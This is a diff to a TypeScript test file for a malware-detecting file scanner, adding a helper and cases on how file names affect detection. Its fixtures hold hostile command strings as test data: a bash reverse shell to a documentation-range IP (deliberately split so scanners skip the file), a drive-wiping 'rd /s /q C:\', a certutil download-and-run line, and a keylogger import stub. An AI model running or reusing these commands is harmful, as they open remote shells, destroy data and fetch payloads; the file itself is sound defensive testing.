@@ -1,7 +1,13 @@
+import { SignalValues } from '@goodstanding/model'
 import { describe, expect, it } from 'vitest'
+import { detectFile } from './detect-file.ts'
 import { look, tarOf } from './open-test-file.ts'
 
-const scriptOf = (name: string, text: string): string | null => look(name, text, 'text/plain').script
+function scriptOf(name: string, text: string, looked = name): string | null {
+  const sink = new SignalValues()
+  detectFile({ ...look(looked, text, 'text/plain'), name }, '/data/file', sink)
+  return sink.value('file.script-content') > 0 ? 'found' : null
+}
 
 /** Put together here, so that scanners leave this file alone. */
 const SHELL = ['bash -i >& /dev/t', 'cp/198.51.100.7/9001 0>&1'].join('')
@@ -27,10 +33,17 @@ describe('a script', () => {
     ['wide.ps1', `\ufeff${GUARD}`],
     ['a.sh', WITHOUT_END],
     ['a.cmd', 'rd /s /q C:\\'],
+    ['a.hta', `<html><script>run('${SHADOWS}')</script></html>`],
     ['a.bat', 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe & start a.exe'],
     ['a.py', 'from pynput.keyboard import Listener\nimport smtplib'],
   ])('that attacks who runs it says so: %s %s', (name, text) => {
     expect(scriptOf(name, text)).not.toBeNull()
+  })
+
+  it('is one under the name that it is sent by, and not under the one that its bytes came by', () => {
+    expect(scriptOf('a.sh', SHELL, '')).not.toBeNull()
+    expect(scriptOf('a.sh', SHELL, 'a.bin')).not.toBeNull()
+    expect(scriptOf('lesson.md', SHELL, 'a.sh')).toBeNull()
   })
 
   it('is found in an archive', () => {
